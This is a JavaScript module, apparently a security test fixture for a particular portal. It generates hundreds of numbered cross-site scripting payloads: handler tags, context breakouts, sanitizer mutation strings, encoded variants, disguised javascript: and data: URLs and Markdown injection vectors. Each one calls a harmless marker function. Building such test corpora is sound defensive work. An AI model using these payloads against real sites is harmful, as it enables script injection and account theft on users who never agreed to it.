// Texts that would run a script in a page that trusted them. Written for this portal, by crossing the ways into markup.
//
// Each calls `__xss(n)` with its own number, so that an execution names its payload; CALL stands for that call.

const CALL = '§'

// Elements that run a handler by themselves, or as soon as someone touches them.
const HANDLERS = [
  ['img src=x', 'onerror'],
  ['img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="', 'onload'],
  ['image href=x src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['embed src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['style', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['input type=image src=x', 'onerror'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'],
  ['div tabindex=0 autofocus', 'onfocusin'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['div style="animation:mee 1s"', 'onanimationstart'],
  ['div style="width:99vw;height:99vh;position:fixed;top:0"', 'onmouseover'],
  ['p contenteditable', 'oninput'],
  ['form', 'onsubmit'],
  ['math', 'onclick'],
  ['x-mee', 'onpointerenter'],
]

// Spellings of a tag that browsers read alike.
const SPELLINGS = [
  (tag, event) => `<${tag} ${event}=${CALL}>`,
  (tag, event) => `<${tag.toUpperCase().replace('SRC=X', 'SRC=x')}\t${event.toUpperCase()}\n=\r"${CALL}"//>`,
  (tag, event) => `"'><${tag.replace(' ', '/')} ${event}='${CALL}'`,
]

// What a text must leave before its tag counts, and the tag that then does.
const LEFT = [
  '">', "'>", '`>', '" ', "' ", '-->', '--!>', '</title>', '</script>', '</SCRIPT\t>', '</style>', '</textarea>', '</select>',
  '</template>', '</noscript>', '</xmp>', '</iframe>', '</noembed>', '</noframes>', '</svg>', '</math>', '</option>', ']]>', '?>', '%>',
  '<!--', '<!-->', '<![CDATA[', '<?xml ', '</plaintext>', '</button></form>', '</a></p></li></ul></section>', '\u2028</script>',
  '"}]}</script>', '\\"}</script >', '<!--<script></script>', '}}</style>', '</details></summary>',
]
const AFTER = [`<img src=x onerror=${CALL}>`, `<svg><script>${CALL}</script>`, `<script>${CALL}</script>`]

// Markup that means one thing to who cleans it and another to who reads what was cleaned.
const MUTATIONS = [
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=1 onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=1 onerror=${CALL}>">`,
  `<svg><style><img src=1 onerror=${CALL}></style></svg>`,
  `<svg><desc><style><!--</style><img src=1 onerror=${CALL}>--></style></desc></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=1 onerror=${CALL}></style></annotation-xml></math>`,
  `<template shadowrootmode=open><img src=1 onerror=${CALL}></template>`,
  `<div><template><img src=1 onerror=${CALL}></template></div>`,
  `<select><noembed></select><img src=1 onerror=${CALL}></noembed>`,
  `<textarea><img title="</textarea><img src=1 onerror=${CALL}>">`,
  `<xmp><p title="</xmp><img src=1 onerror=${CALL}>">`,
  `<title><a id="</title><img src=1 onerror=${CALL}>">`,
  `<iframe><img title="</iframe><img src=1 onerror=${CALL}>"></iframe>`,
  `<iframe srcdoc="<img src=1 onerror=parent.${CALL}>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${CALL}&lt;/script&gt;"></iframe>`,
  `<table><td><img src=1 onerror=${CALL}></table>`,
  `<p title='</p><img src=1 onerror=${CALL}>'>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributeName=x>`,
  `<svg><a><animate attributeName=href values=javascript:${CALL} /><text x=20 y=20>o</text></a>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${CALL}'/></svg>#x"/>`,
  `<svg><foreignObject><img src=1 onerror=${CALL}></foreignObject></svg>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${CALL}>o</maction></math>`,
  `<math href=javascript:${CALL}>o</math>`,
  `<base href=javascript:/><a href=/,${CALL}>o</a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<form action=javascript:${CALL}><button autofocus>o</button></form>`,
  `<button formaction=javascript:${CALL} form=f>o</button><form id=f></form>`,
  `<object data=javascript:${CALL}></object>`,
  `<embed src=javascript:${CALL}>`,
  `<iframe src=javascript:parent.${CALL}></iframe>`,
  `<frameset onload=${CALL}>`,
  `<script type=module>${CALL}</script>`,
  `<script/src="data:text/javascript,${CALL}"></script>`,
  `<script>${CALL}`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<img """><script>${CALL}</script>">`,
  `<img src=x:x onerror\u000c=\u000c${CALL}>`,
  `<a\u0000 href=javascript:${CALL}>o</a><img src=x onerror\u0000=${CALL}>`,
  `<div style="background:url(javascript:${CALL})">`,
  `<div style="width:expression(${CALL})">`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}<%= ${CALL} %>#{${CALL}}`,
  `';${CALL}//";${CALL}//</script><script>${CALL}</script>`,
  `data-mee-view="x" onfocus=${CALL} autofocus tabindex=1`,
  `<section data-mee-view="x" data-mee-title="x"><img src=x onerror=${CALL}></section>`,
  `<a data-mee-view="javascript:${CALL}" href="javascript:${CALL}">o</a>`,
]

// The same tag as something that was decoded once too often would see it.
const spelled = (text, one) => [...text].map(one).join('')
const code = character => character.codePointAt(0)
const hex = (character, width) => code(character).toString(16).padStart(width, '0')
const ENCODINGS = [
  text => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  text => text.replaceAll('<', '&LT').replaceAll('>', '&GT'),
  text => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  text => text.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  text => text.replaceAll('<', '&#0000060').replaceAll('>', '&#0000062'),
  text => text.replaceAll('<', '&#x3c;').replaceAll('>', '&#x3E;'),
  text => spelled(text, character => `&#${code(character)};`),
  text => spelled(text, character => `&#x${hex(character, 6)};`),
  text => encodeURIComponent(text),
  text => encodeURIComponent(encodeURIComponent(text)),
  text => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  text => text.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  text => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  text => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  text => text.replaceAll('<', '<\u200b'),
  text => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  text => text.replaceAll('<', '<\u0000'),
  text => text.replaceAll('<', '\\<').replaceAll('>', '\\>'),
]
const ENCODED = [`<img src=x onerror=${CALL}>`, `"><svg onload=${CALL}>`, `</script><script>${CALL}</script>`]

// Addresses that are no address.
const SCHEMES = ['javascript', 'vbscript', 'livescript', 'mocha', 'view-source:javascript', 'feed:javascript', 'jar:javascript']
const DISGUISES = [
  (scheme, rest) => `${scheme}:${rest}`,
  (scheme, rest) => `${scheme[0].toUpperCase()}${scheme.slice(1, 4)}${scheme.slice(4).toUpperCase()}:${rest}`,
]
const OF_JAVASCRIPT = [
  ' javascript:', '\tjavascript:', '\u0001javascript:', '\u001fjavascript:', '\u00a0javascript:', '\ufeffjavascript:',
  '\u2028javascript:', '\u200bjavascript:', 'java\tscript:', 'java\nscript:', 'java\rscript:', 'javascript\t:', 'javascript\n:',
  'java\u0000script:', 'java&Tab;script:', 'java&NewLine;script:', 'javascript&colon;', 'javascript&#58;', 'javascript&#x3A;',
  'javascript&#0000058', '&#106;avascript:', '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A', 'javascript%3A',
  '%6aavascript:', 'javascript:alert;', 'javascript://example.org/%0a', 'javascript://https://example.org/%0d%0a', 'javascript:/*https://*/',
  'javascript:"https://example.org/";', '\\javascript:', '//javascript:', '/javascript:', 'https:javascript:', 'https://javascript:',
  'http:\tjavascript:', 'mailto:javascript:', 'tel:javascript:', 'fiche:javascript:', 'terme:javascript:', 'ｊavascript:', 'javaſcript:',
]
const OF_DATA = [
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;charset=utf-8,<img src=x onerror=${CALL}>`,
  `DATA:text/html,%3Cscript%3E${CALL}%3C/script%3E`,
  ` data:text/html;,<svg onload=${CALL}>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`,
  `data:text/javascript,${CALL}`,
  `d&#97;ta:text/html,<script>${CALL}</script>`,
  `blob:https://example.org/${CALL}`,
  `filesystem:https://example.org/${CALL}`,
]
const OF_THE_WEB = [
  `https://example.org/"onmouseover=${CALL} x="`,
  `https://example.org/'onmouseover=${CALL} x='`,
  `https://example.org/\`onmouseover=${CALL}`,
  `https://example.org/"><img src=x onerror=${CALL}>`,
  `https://example.org/?a=<script>${CALL}</script>`,
  `https://example.org/#"><svg/onload=${CALL}>`,
  `https://example.org/%22%3E%3Cimg%20src=x%20onerror=${CALL}%3E`,
  `https://example.org\\"onfocus=${CALL} autofocus="`,
  `https://"onfocus=${CALL} autofocus="@example.org/`,
  `https://javascript:${CALL}@example.org/`,
  `https://example.org/&quot;onfocus=${CALL}&#32;autofocus=&quot;`,
  `mailto:"onfocus=${CALL}"@example.org`,
  `mailto:a@example.org?body="><img src=x onerror=${CALL}>`,
  `tel:"onfocus=${CALL} autofocus="`,
]

// What Markdown makes of a text before anything is escaped.
const MARKDOWN = [
  `[o](javascript:${CALL})`,
  `[o](<javascript:${CALL}>)`,
  `[o]( javascript&colon;${CALL})`,
  `[o](java&#10;script:${CALL})`,
  `[o](JaVaScRiPt:${CALL} "titre")`,
  `[o](data:text/html,<script>${CALL}</script>)`,
  `[o](vbscript:${CALL})`,
  `[o](https://example.org "x\\" onmouseover=${CALL} y=\\"")`,
  `[o](https://example.org/"onmouseover=${CALL})`,
  `[o](<https://example.org/ onmouseover=${CALL}>)`,
  `[o](fiche:javascript:${CALL})`,
  `[o](fiche:"onfocus=${CALL})`,
  `[mot](terme: "<img src=x onerror=${CALL}>")`,
  `[mot](terme: "\\"><svg onload=${CALL}>")`,
  `[SIGLE](sigle: "\\" onfocus=${CALL} autofocus x=\\"")`,
  `[SIGLE](sigle: "&quot;&gt;&lt;img src=x onerror=${CALL}&gt;")`,
  `![o](javascript:${CALL})`,
  `![o"onerror="${CALL}](x)`,
  `![o](x "\\" onerror=\\"${CALL}")`,
  `[![o](x)](javascript:${CALL})`,
  `<javascript:${CALL}>`,
  `<https://example.org/"onclick="${CALL}>`,
  `<a"onclick=${CALL}@example.org>`,
  `[o][1]\n\n[1]: javascript:${CALL}`,
  `[o]\n\n[o]: <javascript:${CALL}> "titre"`,
  `[1]: https://example.org "\\"><img src=x onerror=${CALL}>"\n\n[1]`,
  `[o](https://example.org)\\<img src=x onerror=${CALL}\\>`,
  `\`<img src=x onerror=${CALL}>\``,
  `\`\`\`html"><img src=x onerror=${CALL}>\n${CALL}\n\`\`\``,
  `    <img src=x onerror=${CALL}>`,
  `## <img src=x onerror=${CALL}>`,
  `## \\<img src=x onerror=${CALL}\\>\n\nTexte.`,
  `### &lt;svg onload=${CALL}&gt;\n\nTexte.`,
  `| \\<img src=x onerror=${CALL}\\> | b |\n| --- | --- |\n| &lt;svg onload=${CALL}&gt; | \\"\\> |`,
  `- \\<script\\>${CALL}\\</script\\>\n- b`,
  `- [ ] \\"\\>\\<svg onload=${CALL}\\>`,
  `> **À savoir** \\<img src=x onerror=${CALL}\\>`,
  `> **À noter** &#60;script&#62;${CALL}&#60;/script&#62;`,
  `**\\<b onmouseover=${CALL}\\>**`,
  `*&lt;img src=x onerror=${CALL}&gt;*`,
  `<!-- --><img src=x onerror=${CALL}> -->`,
  `<!-- emplacement: "><img src=x onerror=${CALL}> -->`,
  `<!-- choix -->\n### \\<img src=x onerror=${CALL}\\>\nUn.\n### Deux\nDeux.\n<!-- fin du choix -->`,
  `<div markdown=1>\n<script>${CALL}</script>\n</div>`,
  `[^1]\n\n[^1]: <img src=x onerror=${CALL}>`,
  `~~<img src=x onerror=${CALL}>~~`,
  `Texte\\\n<img src=x onerror=${CALL}>`,
  `https://example.org/"onclick=${CALL}`,
]

const crossed = () => [
  ...HANDLERS.flatMap(([tag, event]) => SPELLINGS.map(spelling => spelling(tag, event))),
  ...LEFT.flatMap((left, index) => [`${left}${AFTER[index % 3]}`, `${left}${AFTER[(index + 1) % 3]}`]),
  ...MUTATIONS,
  ...ENCODED.flatMap(text => ENCODINGS.map(encode => encode(text))),
]
const addresses = () => [
  ...SCHEMES.flatMap(scheme => DISGUISES.map(disguise => disguise(scheme, CALL))),
  ...OF_JAVASCRIPT.map(start => `${start}${CALL}`),
  ...OF_DATA,
  ...OF_THE_WEB,
]

/** Every payload once: its number, its text, and what it is (`markup`, `address` or `markdown`). */
export const payloads = () => {
  const all = [
    ...crossed().map(text => ({ kind: 'markup', text })),
    ...addresses().map(text => ({ kind: 'address', text })),
    ...MARKDOWN.map(text => ({ kind: 'markdown', text })),
  ]
  const distinct = [...new Map(all.map(payload => [payload.text, payload])).values()]
  // The call is written in after the encodings: what is tried is whether the markup counts, not who reads the call.
  const spellings = [CALL, encodeURIComponent(CALL), encodeURIComponent(encodeURIComponent(CALL)), '&#167;', '&#x0000a7;']
  return distinct.map(({ kind, text }, index) => ({
    index,
    kind,
    text: spellings.reduce((written, spelling) => written.replaceAll(spelling, `__xss(${index})`), text),
  }))
}

/** The word that says on a page that the payload came through. */
export const motif = ({ index }) => `motif${index}fin`

/** The payload followed by its word. */
export const marked = payload => `${payload.text} ${motif(payload)}`

/** The payload as Markdown that means its very characters. */
export const asPlainMarkdown = payload =>
  `${payload.text.replace(/[\s\u0000]+/g, ' ').replace(/[!-/:-@[-`{-~]/g, '\\$&').trim()} ${motif(payload)}`
